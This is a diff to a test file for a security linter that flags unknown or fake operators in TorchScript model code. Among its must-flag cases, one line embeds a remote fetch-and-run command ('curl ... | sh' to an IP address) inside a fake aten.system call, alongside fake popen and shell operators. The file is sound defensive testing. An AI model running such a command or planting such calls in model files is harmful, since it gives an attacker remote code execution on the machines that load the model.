@@ -47,7 +47,7 @@ const cases: Record<string, { ok: Case[]; ng: Case[] }> = {
       },
       { name: "a local def shadows open", code: 'def open(path, mode):\n    return path\nopen("~/.bashrc", "w")' },
       {
-        name: "custom torch.ops namespaces are custom-ops' job",
+        name: "operator namespaces are unknown-operator's job",
         code: "_0 = ops.my_ns.my_op(x)\ntorch.ops.aten.add(x, 1)",
         language: "torchscript",
       },
@@ -331,6 +331,68 @@ const cases: Record<string, { ok: Case[]; ng: Case[] }> = {
       },
     ],
   },
+};
+
+cases["unknown-operator"] = {
+  ok: [
+    {
+      name: "ATen and prim operators as the TorchScript printer writes them",
+      code:
+        "def forward(self, x: Tensor) -> Tensor:\n  _0 = torch.add(torch.linear(x, self.weight), 1)\n" +
+        '  _1 = ops.prim.device(x)\n  _2 = torch.ops.aten.mul.Tensor(x, x)\n  _3 = ops.prim.RaiseException("x")\n' +
+        "  return torch.softmax(_0, -1)",
+      language: "torchscript",
+    },
+    {
+      name: "quantized and torchvision operators (torchvision's names are not in the registry: not checked)",
+      code: "_0 = ops.quantized.linear(x, self._packed_params, 0.1, 0)\n_1 = ops.torchvision.nms(b, s, 0.5)",
+      language: "torchscript",
+    },
+    {
+      name: "a method of an operator's result",
+      code: "_0 = torch.ops.aten.add(x, 1).sum()",
+      language: "torchscript",
+    },
+    {
+      name: "Python code is not checked (an extension's own operators are normal there)",
+      code: "import torch\nout = torch.ops.my_ext.fused_gelu(x)",
+    },
+    {
+      name: "torch.ops.load_library is another rule's",
+      code: 'torch.ops.load_library("x.so")',
+      language: "torchscript",
+    },
+  ],
+  ng: [
+    {
+      name: "torch.ops.aten.system",
+      code: 'def forward(self, x: Tensor) -> Tensor:\n  _0 = torch.ops.aten.system("curl http://203.0.113.7/x | sh")\n  return x',
+      language: "torchscript",
+      messageId: "unknownOperator",
+      severity: "critical",
+    },
+    {
+      name: "ops.prim with a fake operator",
+      code: "_0 = ops.prim.shell(x)",
+      language: "torchscript",
+      messageId: "unknownOperator",
+      severity: "critical",
+    },
+    {
+      name: "the builtin spelling of a fake ATen operator",
+      code: 'def forward(self, x: Tensor) -> Tensor:\n  _0 = torch.popen("id")\n  return x',
+      language: "torchscript",
+      messageId: "unknownOperator",
+      severity: "critical",
+    },
+    {
+      name: "a namespace no standard build registers",
+      code: "_0 = ops.my_ns.evil_op(x)",
+      language: "torchscript",
+      messageId: "unknownNamespace",
+      severity: "critical",
+    },
+  ],
 };
 
 for (const [rule, { ok, ng }] of Object.entries(cases)) {
